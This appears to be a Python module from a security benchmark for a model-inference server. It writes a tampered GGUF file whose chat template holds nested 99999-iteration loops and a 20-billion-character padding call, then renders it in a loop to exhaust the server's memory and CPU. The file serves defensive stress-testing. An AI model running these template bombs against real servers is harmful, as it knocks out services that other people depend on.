"""Attacks with a chat template: a model file of the attacker's whose template has bombs."""

from __future__ import annotations

import itertools
import struct
import time
from contextlib import suppress
from pathlib import Path
from typing import Any

from bench.attack.attack import Attack, Target
from bench.machine import MODEL
from inferd import Client, InferdError
from inferd.backends.errors import InvalidArgument, TooLarge

_KEY = b"tokenizer.chat_template"
_LENGTH = struct.Struct("<Q")
_TYPE_BYTES = 4
LOOPS = "{% for i in range(99999) %}"
TEMPLATE = (
    "{% if messages[0].size %}{{ 'a'|center(messages[0].size) }}{% else %}"
    + LOOPS * 3
    + "{% endfor %}" * 3
    + "{% endif %}"
)
BOMBS: list[dict[str, Any]] = [{"size": 20_000_000_000}, {"size": 0}]


def _write_model(path: Path) -> None:
    """Write a copy of the model in which `TEMPLATE` is the chat template."""
    data = bytearray(MODEL.read_bytes())
    at = data.index(_KEY) + len(_KEY) + _TYPE_BYTES
    (size,) = _LENGTH.unpack_from(data, at)
    begin = at + _LENGTH.size
    data[begin : begin + size] = TEMPLATE.encode().ljust(size)[:size]
    path.write_bytes(data)


def render_bombs(target: Target) -> None:
    """Render one bomb after another."""
    path = target.folder / "bomb.gguf"
    _write_model(path)
    while not target.is_over():
        with suppress(InferdError), Client(target.socket) as client, path.open("rb") as file:
            graph = client.load(fd=file.fileno())
            for bomb in itertools.cycle(BOMBS):
                with suppress(TooLarge, InvalidArgument):
                    client.apply_template(graph, [{"role": "user", "content": "Hi", **bomb}])
                if target.is_over():
                    return
        time.sleep(0.1)


ATTACKS = (Attack("template-bombs", "Chat templates that need gigabytes or hours", render_bombs),)
